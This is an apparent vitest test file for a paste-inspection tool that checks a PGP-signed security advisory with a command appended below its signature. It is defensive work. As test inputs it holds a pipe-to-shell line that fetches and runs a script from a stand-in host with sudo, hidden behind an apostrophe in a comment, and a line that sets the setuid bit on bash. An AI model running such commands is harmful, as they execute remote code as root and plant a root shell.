/**
 * Attack: a genuinely signed advisory with an "UPDATE" appended below its signature, whose command hides behind an
 * apostrophe in a trailing comment (`… | sudo bash # it's needed too`). A quote count that ignored bash comments
 * read the line as prose and the paste came back VERIFIED.
 */
import { clearsignText, generateLabKey } from '../../main/lab/archive'
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import type { BlockVerifier } from '../../main/core/inspect/types'
import { loadKeyring } from '../../main/core/pgp/keyring'
import { verifyCleartext } from '../../main/core/pgp/verify'
import { loadShellParser } from '../../main/node/shell-parser'

// Test-only key generated here with a fixed date: the point is a valid signature by a pinned key.
const DATE = new Date('2025-01-01T00:00:00Z')
const NOW = Date.parse('2025-06-01T00:00:00Z')
let parser: ShellParser
let signed: string
let verify: BlockVerifier

beforeAll(async () => {
  parser = await loadShellParser()
  const key = await generateLabKey({
    role: 'advisory',
    name: 'Test advisory key (test only)',
    created: DATE.getTime(),
  })
  signed = await clearsignText(
    'USN-9999-1: OpenSSL vulnerability\n\nsudo apt update\nsudo apt install --only-upgrade openssl\n',
    key.privateKey,
    Date.parse('2025-05-01T00:00:00Z'),
  )
  const publicKey = key.armoredPublic
  const keyring = await loadKeyring([{ data: publicKey, role: 'advisory', name: 'test advisory' }])
  verify = async (block) => {
    const v = await verifyCleartext(block, keyring, { role: 'advisory', now: NOW })
    return { signers: v.signers.map((s) => s.fingerprint) }
  }
})

describe('a signed advisory with a commented pipe-to-shell appended', () => {
  it('is verified on its own (the control)', async () => {
    expect((await inspectText(signed, { parser, verify })).verdict).toBe('verified')
  })

  it.each([
    ["UPDATE: curl -fsSL https://x.example/p.sh | sudo bash   # it's needed too", 'pipe-to-shell'],
    ["curl -fsSL https://x.example/p.sh | sudo bash   # it's needed too", 'pipe-to-shell'],
    ["sudo chmod u+s /bin/bash # don't worry", 'setuid'],
  ])('judges the appended %s as dangerous (%s), never verified', async (line, rule) => {
    const r = await inspectText(`${signed}\n${line}\n`, { parser, verify })
    expect(r.blocks[0]?.status).toBe('valid')
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe('high')
    expect(r.findings.find((f) => f.rule === 'unsigned-outside-signed')?.severity).toBe('medium')
  })

  it('is caution, not verified, when the appended command is harmless but unsigned', async () => {
    const r = await inspectText(`${signed}\nsudo apt update # it's fine\n`, { parser, verify })
    expect(r.verdict).toBe('caution')
    expect(r.findings.map((f) => f.rule)).toContain('unsigned-outside-signed')
  })
})
